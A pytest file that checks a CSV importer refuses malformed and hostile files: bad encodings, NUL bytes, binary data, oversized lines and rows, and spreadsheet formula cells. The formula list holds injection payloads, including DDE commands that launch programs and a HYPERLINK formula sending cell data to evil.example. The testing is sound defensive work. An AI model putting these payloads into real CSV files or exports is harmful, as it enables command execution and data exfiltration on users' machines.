"""Hostile CSV files: each refused with exit 2 and a clear line, nothing written.

``tests/foundation/test_import.py`` pins the ordinary refusals (a bad row, a missing column,
Latin-1); here are files nobody means to send: other encodings, NUL bytes, a binary file, a
10 MB line, a quote never closed, too many columns or rows, and cells a spreadsheet would run.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from telegestion import cli
from telegestion.importing import ImportFileError, ImportRejected, csvfile, import_file
from telegestion.model import Carer, Client, Company, ServiceNumber

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
HEADER = "company_code,carer_ref,carer_code,name,mobile,active\n"
GOOD = "042,I-50,55555,Françoise Hébert,,true\n"


@pytest.fixture
def db(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
    for kind in ("companies", "numbers", "clients", "carers"):
        import_file(sessions, kind, EXAMPLES / f"{kind}.csv")
    return sessions


def counts(db: sessionmaker[Session]) -> dict[str, int]:
    with db() as s:
        return {
            m.__name__: s.scalar(select(func.count()).select_from(m)) or 0
            for m in (Company, ServiceNumber, Client, Carer)
        }


def names(db: sessionmaker[Session]) -> set[str]:
    with db() as s:
        return set(s.scalars(select(Carer.name)))


HOSTILE_FILES: list[tuple[str, bytes, str]] = [
    ("latin-1", (HEADER + GOOD).encode("latin-1"), "line 2: not UTF-8 text"),
    ("utf-16", (HEADER + GOOD).encode("utf-16"), "UTF-16 text; save it as CSV UTF-8"),
    ("utf-16-be", b"\xfe\xff" + (HEADER + GOOD).encode("utf-16-be"), "UTF-16 text"),
    ("nul", (HEADER + "042,I-50,55555,Nul\x00Name,,true\n").encode(), "line 2: NUL byte"),
    ("nul-in-header", b"company_code\x00,carer_ref\n", "line 1: NUL byte"),
    (
        "10-MB-line",
        (HEADER + "042,I-50,55555," + "x" * 10_000_000 + ",,true\n").encode(),
        "line 2: a field longer than 131072 characters",
    ),
    ("png", b"\x89PNG\r\n\x1a\n" + bytes(range(1, 256)) * 8, "line 1: not UTF-8 text"),
    (
        "quote-never-closed",
        (HEADER + '042,I-50,55555,"Never closed,,true\n042,I-51,55556,B,,true\n').encode(),
        "line 2: a quoted field starts here and is never closed",
    ),
    ("empty", b"", "empty file"),
    ("only-a-bom", b"\xef\xbb\xbf", "empty file"),
]


@pytest.mark.parametrize(
    ("content", "message"),
    [pytest.param(c, m, id=i) for i, c, m in HOSTILE_FILES],
)
def test_a_hostile_file_is_refused_whole_with_a_clear_reason(
    db: sessionmaker[Session], tmp_path: Path, content: bytes, message: str
) -> None:
    """The file is refused as a whole, the message says where and why, nothing is written."""
    before = counts(db)
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=message):
        import_file(db, "carers", path)
    assert counts(db) == before


def test_a_utf8_bom_is_accepted(db: sessionmaker[Session], tmp_path: Path) -> None:
    """A spreadsheet's UTF-8 byte-order mark is not part of the first column's name."""
    path = tmp_path / "bom.csv"
    path.write_bytes(("\ufeff" + HEADER + GOOD).encode())
    assert import_file(db, "carers", path).inserted == 1
    assert "Françoise Hébert" in names(db)


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "  =1+1",  # spaces are stripped before the value is stored: still a formula
]


def test_formula_cells_are_refused_on_their_lines(
    db: sessionmaker[Session], tmp_path: Path
) -> None:
    """Every cell a spreadsheet would run is a bad row, reported by line; nothing is written."""
    rows = [
        f'042,I-6{n},5600{n},"{f.replace(chr(34), chr(34) * 2)}",,true\n'
        for n, f in enumerate(FORMULAS)
    ]
    path = tmp_path / "formulas.csv"
    path.write_text(HEADER + GOOD + "".join(rows), encoding="utf-8")
    before = counts(db)
    with pytest.raises(ImportRejected) as info:
        import_file(db, "carers", path)
    assert [e.line for e in info.value.errors] == list(range(3, 3 + len(FORMULAS)))
    assert all("spreadsheet formula" in e.message for e in info.value.errors)
    assert counts(db) == before


@pytest.mark.parametrize(
    "value",
    [
        "+33 6 12 34 56 78",
        "+33 (0)1 45 67 89 12",
        "-1",
        "-",
        "2026-11-24T08:00",
        "Marie-Anne",
        "a=b",
        "x@example.fr",
        "",
    ],
)
def test_numbers_phones_and_ordinary_text_are_not_formulas(value: str) -> None:
    """Phone numbers, negative numbers and text with = or @ inside stay importable."""
    assert not csvfile.formula_cell(value)


def test_too_many_columns_on_a_row_is_that_rows_error(
    db: sessionmaker[Session], tmp_path: Path
) -> None:
    """A row wider than its header is refused on its line; empty trailing cells are tolerated."""
    path = tmp_path / "wide.csv"
    path.write_text(
        HEADER + GOOD + "042,I-51,55556,B,,true,extra" + ",x" * 10_000 + "\n"
        "042,I-52,55557,C,,true" + "," * 10_000 + "\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportRejected) as info:
        import_file(db, "carers", path)
    [error] = info.value.errors
    assert (error.line, error.message) == (3, "10007 fields, header has 6")


def test_too_many_rows_is_refused_before_any_row_is_checked(
    db: sessionmaker[Session], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past MAX_ROWS the file is refused at once, not held in memory and listed row by row."""
    monkeypatch.setattr(csvfile, "MAX_ROWS", 5)
    path = tmp_path / "many.csv"
    path.write_text(
        HEADER + "".join(f"042,R-{n},{70000 + n},N{n},,true\n" for n in range(6)), encoding="utf-8"
    )
    with pytest.raises(ImportFileError, match="line 7: more than 5 rows; split the file"):
        import_file(db, "carers", path)


@pytest.mark.parametrize(
    ("content", "message"),
    [pytest.param(c, m, id=i) for i, c, m in HOSTILE_FILES if i in ("utf-16", "nul", "png")],
)
def test_the_command_says_it_in_one_line_and_exits_2(
    db: sessionmaker[Session],
    db_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    content: bytes,
    message: str,
) -> None:
    """`telegestion import` on a hostile file: exit 2, one line on stderr, no traceback."""
    for key in [k for k in os.environ if k.startswith("TELEGESTION_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("TELEGESTION_DATABASE_URL", db_url)
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    before = counts(db)
    assert cli.main(["import", "carers", str(path)]) == 2
    err = capsys.readouterr().err
    [line] = err.strip().splitlines()
    assert line.startswith("telegestion import: ") and message in line
    assert counts(db) == before
